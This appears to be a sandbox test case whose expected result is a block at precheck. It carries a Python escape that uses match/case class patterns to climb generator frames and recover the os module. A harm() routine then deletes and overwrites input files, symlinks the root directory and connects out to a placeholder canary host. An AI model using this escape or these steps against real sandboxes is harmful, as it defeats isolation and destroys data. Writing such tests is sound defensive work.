# attack: match/case class patterns read gi_frame, f_back, f_globals (names kept as constants, not attribute loads)
# expect: precheck:blocked-attribute
# unguarded: python
def harm(os):
    """What an escape would do: every step must be stopped by a wall below."""
    steps = [
        lambda: os.system("echo pwned >> /input/data.csv; echo pwned > /input/new.txt; "
                          "echo pwned > /tmp/escaped; "
                          "python3 -c \"import socket; socket.create_connection(('CANARY_HOST', CANARY_PORT), 2)\""),
        lambda: os.remove("/input/data.csv"),
        lambda: os.rename("/input/book.xlsx", "/input/moved.xlsx"),
        lambda: os.symlink("/input/data.csv", "/output/link.csv"),
        lambda: os.symlink("/", "/output/root"),
        lambda: os.mkfifo("/output/fifo"),
        lambda: os.open("/input/data.csv", os.O_WRONLY | os.O_TRUNC),
    ]
    for step in steps:
        try:
            step()
        except Exception as exc:
            print("blocked:", repr(exc)[:120])

def climb():
    match gen:
        case object(gi_frame=frame):
            pass
    while frame is not None:
        match frame:
            case object(f_back=parent, f_globals=names):
                pass
        found = names.get("os")
        if found is not None:
            return found
        frame = parent
    return None
    yield


gen = climb()
try:
    next(gen)
except StopIteration as stop:
    os_module = stop.value
if os_module is None:
    raise RuntimeError("no frame held os")
harm(os_module)
